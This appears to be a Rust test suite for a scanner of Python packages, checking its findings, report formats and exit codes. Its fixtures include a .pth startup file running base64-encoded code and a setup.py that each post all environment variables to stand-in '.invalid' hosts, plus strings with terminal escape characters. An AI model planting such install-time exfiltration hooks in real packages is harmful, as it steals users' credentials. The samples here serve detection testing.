//! What is said of inert samples, in each of the three forms, and how a scan ends.

#![allow(clippy::unwrap_used)]

use portcullis_fixtures::{sdist, wheel};
use serde_json::Value;
use tempfile::TempDir;

use super::*;

/// Harmless when it runs: the hosts are under `.invalid`, which no name server answers for.
const STARTUP: &str = "import base64; exec(base64.b64decode('aW1wb3J0IG9zLCB1cmxsaWIucmVxdWVzdAp1cmxs\
    aWIucmVxdWVzdC51cmxvcGVuKCdodHRwczovL21vZGVscy5pbnZhbGlkLycsIGRhdGE9c3RyKGRpY3Qob3MuZW52aXJvbikpL\
    mVuY29kZSgpKQo='))\n";
const BEACON: &str = "import os, urllib.request\n\
    from setuptools import setup\n\
    secrets = str(dict(os.environ))\n\
    urllib.request.urlopen('https://collect.invalid/', data=secrets.encode())\n\
    setup(name='demo')\n";

/// A folder with samples, and how to name what is in it.
struct Samples(TempDir);

impl Samples {
    fn new() -> Self {
        let samples = Self(TempDir::new().unwrap());
        let startup = wheel("startup", "1.82.7")
            .file("startup/__init__.py", "")
            .file("startup_init.pth", STARTUP);
        samples.write(&startup.filename(), startup.build());
        let beacon = sdist("beacon", "1.0").file("setup.py", BEACON);
        samples.write(&beacon.filename(), beacon.build());
        let clean =
            wheel("clean", "1.0").file("clean/__init__.py", "def add(a, b):\n    return a + b\n");
        samples.write(&clean.filename(), clean.build());
        samples.write("module.py", "import base64\nexec(base64.b64decode(blob))\n");
        samples.write("notes.txt", "nothing");
        samples
    }

    fn write(&self, name: &str, bytes: impl AsRef<[u8]>) {
        std::fs::write(self.0.path().join(name), bytes).unwrap();
    }

    /// What is scanned, with times and folders as they are everywhere.
    fn scan(&self, names: &[&str]) -> Vec<Scanned> {
        let paths = names.iter().map(|name| self.0.path().join(name));
        let inputs: Vec<Input> = paths.flat_map(|path| inputs::below(&path)).collect();
        let mut scanned = scan_all(&inputs, 2, &Means::default());
        let folder = format!("{}/", self.0.path().display());
        for one in &mut scanned {
            one.seconds = 0.25;
            one.path = one.path.replace(&folder, "");
            match &mut one.outcome {
                Ok(inspection) => {
                    inspection
                        .observations
                        .retain(|seen| SHOWN.contains(&&*seen.rule));
                }
                Err(error) => *error = anyhow::anyhow!(error.to_string().replace(&folder, "")),
            }
        }
        scanned
    }
}

/// What snapshots show of the findings, so that a new rule leaves them as they are.
const SHOWN: [&str; 4] = ["ARC-001", "EXE-001", "META-003", "NET-001"];
const TOOK: std::time::Duration = std::time::Duration::from_millis(250);
const STARTUP_WHEEL: &str = "startup-1.82.7-py3-none-any.whl";
const BEACON_SDIST: &str = "beacon-1.0.tar.gz";
const CLEAN_WHEEL: &str = "clean-1.0-py3-none-any.whl";

#[test]
fn people_are_shown_the_line_the_chain_and_what_to_do() {
    let scanned = Samples::new().scan(&[
        STARTUP_WHEEL,
        BEACON_SDIST,
        CLEAN_WHEEL,
        "module.py",
        "notes.txt",
    ]);
    insta::assert_snapshot!(text::all(
        &scanned,
        &Judge::Table,
        TOOK,
        crate::output::Look::Plain
    ));
}

#[test]
fn programs_are_told_all_of_it() {
    let scanned = Samples::new().scan(&[BEACON_SDIST, CLEAN_WHEEL, "absent.whl"]);
    let lines = json::lines(&scanned, &Judge::Table);
    let objects = lines
        .lines()
        .map(|line| serde_json::from_str::<Value>(line).unwrap());
    let objects: Vec<Value> = objects.collect();
    insta::assert_snapshot!(serde_json::to_string_pretty(&objects).unwrap());
}

#[test]
fn dashboards_are_told_what_sarif_has_words_for() {
    let scanned = Samples::new().scan(&[BEACON_SDIST, "module.py", "notes.txt"]);
    let mut document: Value =
        serde_json::from_str(&sarif::document(&scanned, &Judge::Table)).unwrap();
    let driver = &mut document["runs"][0]["tool"]["driver"];
    let rules = driver["rules"].as_array().unwrap().clone();
    // The manuals are shown once, in one rule, so that new rules do not change this snapshot.
    driver["rules"] = rules
        .iter()
        .filter(|rule| rule["id"] == "EXE-001")
        .cloned()
        .collect();
    driver["semanticVersion"] = Value::Null;
    for result in document["runs"][0]["results"].as_array_mut().unwrap() {
        let index = result["ruleIndex"].as_u64().unwrap() as usize;
        assert_eq!(rules[index]["id"], result["ruleId"]);
        result["ruleIndex"] = Value::Null;
    }
    insta::assert_snapshot!(serde_json::to_string_pretty(&document).unwrap());
}

#[test]
fn the_exit_code_says_what_was_found_and_what_is_not_known() {
    let samples = Samples::new();
    for (names, fail_on, expected) in [
        (&[CLEAN_WHEEL][..], FailOn::Warn, Exit::Clean),
        (&[BEACON_SDIST], FailOn::Deny, Exit::Findings),
        (&[CLEAN_WHEEL, "module.py"], FailOn::Hold, Exit::Findings),
        (&[CLEAN_WHEEL, "absent.whl"], FailOn::Hold, Exit::Undecided),
        (&["absent.whl", BEACON_SDIST], FailOn::Hold, Exit::Findings),
    ] {
        assert_eq!(
            exit(&samples.scan(names), &Judge::Table, fail_on),
            expected,
            "{names:?}"
        );
    }
}

#[test]
fn the_distributions_in_a_folder_are_inspected_one_by_one_and_in_order() {
    let samples = Samples::new();
    let paths = |scanned: Vec<Scanned>| scanned.into_iter().map(|one| one.path).collect::<Vec<_>>();
    let folder = samples.0.path().display().to_string();
    assert_eq!(
        paths(samples.scan(&[""]))[..3],
        [BEACON_SDIST, CLEAN_WHEEL, STARTUP_WHEEL]
    );
    std::fs::remove_file(samples.0.path().join("module.py")).unwrap();
    std::fs::remove_file(samples.0.path().join("notes.txt")).unwrap();
    assert!(!paths(samples.scan(&[""])).contains(&folder));
}

#[test]
fn a_folder_is_read_without_following_links_or_version_control() {
    let folder = TempDir::new().unwrap();
    std::fs::create_dir_all(folder.path().join(".git")).unwrap();
    std::fs::create_dir_all(folder.path().join("demo")).unwrap();
    std::fs::write(folder.path().join(".git/a.py"), BEACON).unwrap();
    std::fs::write(folder.path().join("demo/a.py"), "x = 1\n").unwrap();
    #[cfg(unix)]
    std::os::unix::fs::symlink(folder.path(), folder.path().join("demo/again")).unwrap();
    let scanned = scan_all(&inputs::below(folder.path()), 1, &Means::default());
    let inspection = scanned[0].outcome.as_ref().unwrap();
    assert_eq!(
        (inspection.statistics.files, inspection.effect()),
        (1, Effect::Allow)
    );
}

#[test]
fn a_long_line_is_shown_around_the_place() {
    let code = format!(
        "x = [{}]; exec(bytes.fromhex('70617373')); y = 1\n",
        "1, ".repeat(300)
    );
    let folder = TempDir::new().unwrap();
    std::fs::write(folder.path().join("a.py"), code).unwrap();
    let scanned = scan_all(
        &inputs::below(&folder.path().join("a.py")),
        1,
        &Means::default(),
    );
    let text = text::all(&scanned, &Judge::Table, TOOK, crate::output::Look::Plain);
    let shown = "1, 1, 1, 1, 1, 1, 1, ]; exec(bytes.fromhex('70617373')); y = 1";
    let marked = format!("{}{}\n", " ".repeat(24), "━".repeat(31));
    assert!(text.contains(shown) && text.contains(&marked), "{text}");
}

#[test]
fn what_is_found_does_not_steer_the_terminal() {
    let code = "exec(bytes.fromhex('70617373'), {'\u{1b}]0;x\u{7}': '\u{202e}'})\n";
    let folder = TempDir::new().unwrap();
    std::fs::write(folder.path().join("a.py"), code).unwrap();
    let scanned = scan_all(
        &inputs::below(&folder.path().join("a.py")),
        1,
        &Means::default(),
    );
    let text = text::all(&scanned, &Judge::Table, TOOK, crate::output::Look::Plain);
    assert!(
        !text.contains(['\u{1b}', '\u{7}', '\u{202e}']) && text.contains("EXE-001"),
        "{text}"
    );
}
